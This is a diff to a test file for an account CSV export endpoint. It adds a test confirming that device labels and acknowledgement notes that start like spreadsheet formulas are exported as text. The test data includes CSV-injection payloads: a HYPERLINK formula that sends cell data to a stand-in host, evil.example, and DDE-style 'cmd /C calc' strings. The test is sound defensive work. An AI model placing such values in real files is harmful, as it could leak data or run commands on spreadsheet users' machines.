@@ -36,6 +36,47 @@ async function downloadExport(
 const csv = (dir: string, name: string) =>
   parse<Record<string, string>>(fs.readFileSync(path.join(dir, 'out', name)), { columns: true });
 
+/** An alarm event row as the rule engine writes it: threshold_high on 0..5, peak 9, 30 minutes' grace. */
+function alarmEventRow(
+  owner: {
+    accountId: string;
+    siteId: string;
+    deviceId: string;
+    sensor: { id: string; seq: number };
+    channelId: string;
+  },
+  id: string,
+  startedAt: number,
+  more: Record<string, unknown> = {},
+) {
+  return {
+    id,
+    account_id: owner.accountId,
+    site_id: owner.siteId,
+    device_id: owner.deviceId,
+    sensor_id: owner.sensor.id,
+    channel_id: owner.channelId,
+    sensor_seq: owner.sensor.seq,
+    kind: 'threshold_high' as const,
+    started_at: startedAt,
+    alarm_at: startedAt + 30 * MINUTE,
+    ended_at: null,
+    ok_min: 0,
+    ok_max: 5,
+    peak_value: 9,
+    silenced: 0,
+    acknowledged_at: null,
+    acknowledged_by: null,
+    ack_note: null,
+    withdrawn_at: null,
+    notified_open_at: null,
+    notified_resolved_at: null,
+    created_at: startedAt,
+    updated_at: startedAt,
+    ...more,
+  };
+}
+
 describe.each(DATABASES)('POST /v1/accounts/me/export on %s', (db) => {
   let t: TestCloud;
   let user: SignedIn;
@@ -139,32 +180,9 @@ describe.each(DATABASES)('POST /v1/accounts/me/export on %s', (db) => {
       .selectAll()
       .where('channel_id', '=', channelId)
       .executeTakeFirstOrThrow();
-    const event = (id: string, startedAt: number, more: Record<string, unknown> = {}) => ({
-      id,
-      account_id: user.accountId,
-      site_id: site.id,
-      device_id: device.id,
-      sensor_id: sensor.id,
-      channel_id: channelId,
-      sensor_seq: sensor.seq,
-      kind: 'threshold_high' as const,
-      started_at: startedAt,
-      alarm_at: startedAt + 30 * MINUTE,
-      ended_at: null,
-      ok_min: 0,
-      ok_max: 5,
-      peak_value: 9,
-      silenced: 0,
-      acknowledged_at: null,
-      acknowledged_by: null,
-      ack_note: null,
-      withdrawn_at: null,
-      notified_open_at: null,
-      notified_resolved_at: null,
-      created_at: startedAt,
-      updated_at: startedAt,
-      ...more,
-    });
+    const owner = { accountId: user.accountId, siteId: site.id, deviceId: device.id, sensor, channelId };
+    const event = (id: string, startedAt: number, more: Record<string, unknown> = {}) =>
+      alarmEventRow(owner, id, startedAt, more);
     await t.cloud.services.db
       .insertInto('alarm_events')
       .values([
@@ -209,6 +227,62 @@ describe.each(DATABASES)('POST /v1/accounts/me/export on %s', (db) => {
       }),
     ]);
     fs.rmSync(dir, { recursive: true, force: true });
+  });
+
+  it('writes device labels and acknowledgement notes that start like a formula as text, numbers as numbers', async () => {
+    await start();
+    const site = await createSite(t, user.token);
+    const device = await createDevice(t, user.token, site.id);
+    // A device chooses its channel labels; a spreadsheet would run these as formulas.
+    const hyperlink = '=HYPERLINK("https://evil.example/?d="&A1,"details")';
+    const linkChannel = await ingestHttp(t, device, [{ ts: NOW - 2 * MINUTE, value: -3.5 }], {
+      label: hyperlink,
+    });
+    const atChannel = await ingestHttp(t, device, [{ ts: NOW - MINUTE, value: 4 }], {
+      label: '@SUM(1+1)*cmd|"/C calc"!A0',
+    });
+    const sensor = await t.cloud.services.db
+      .selectFrom('sensors')
+      .select(['id', 'seq'])
+      .where('channel_id', '=', linkChannel)
+      .executeTakeFirstOrThrow();
+    await t.cloud.services.db
+      .insertInto('alarm_events')
+      .values(
+        alarmEventRow(
+          { accountId: user.accountId, siteId: site.id, deviceId: device.id, sensor, channelId: linkChannel },
+          'evt_formula',
+          NOW - 60 * MINUTE,
+          { kind: 'threshold_low', ok_min: -2.5, peak_value: -3.5 },
+        ),
+      )
+      .execute();
+    const note = '+1+cmd|" /C calc"!A0\nsecond line';
+    const ack = await t.http.post('/v1/events/evt_formula/ack', { note }, { token: user.token });
+    expect(ack.status).toBe(200);
+
+    const { dir } = await downloadExport(t, user.token);
+    const measurements = csv(dir, 'measurements.csv');
+    expect(measurements.find((r) => r.channel_id === linkChannel)).toMatchObject({
+      label: `'${hyperlink}`,
+      value: '-3.5',
+    });
+    expect(measurements.find((r) => r.channel_id === atChannel)!.label).toBe(`'@SUM(1+1)*cmd|"/C calc"!A0`);
+    // Numeric cells stay bare numbers, so a spreadsheet still sums them.
+    const rawMeasurements = fs.readFileSync(path.join(dir, 'out', 'measurements.csv'), 'utf8');
+    expect(rawMeasurements).toMatch(/,-3\.5\n/);
+    const [event] = csv(dir, 'events.csv');
+    expect(event).toMatchObject({ ok_min: '-2.5', peak_value: '-3.5', ack_note: `'${note}` });
+    const rawEvents = fs.readFileSync(path.join(dir, 'out', 'events.csv'), 'utf8');
+    expect(rawEvents).toContain(',-2.5,5,-3.5,');
+    fs.rmSync(dir, { recursive: true, force: true });
+
+    const series = await t.http.get(
+      `/v1/channels/${linkChannel}/measurements?format=csv&from=${encodeURIComponent(formatMicros(NOW - 10 * MINUTE))}`,
+      { token: user.token },
+    );
+    expect(series.status).toBe(200);
+    expect(series.text).toBe(`ts,value\n${formatMicros(NOW - 2 * MINUTE)},-3.5\n`);
   });
 
   it('exports an account with no data as CSV headers only', async () => {
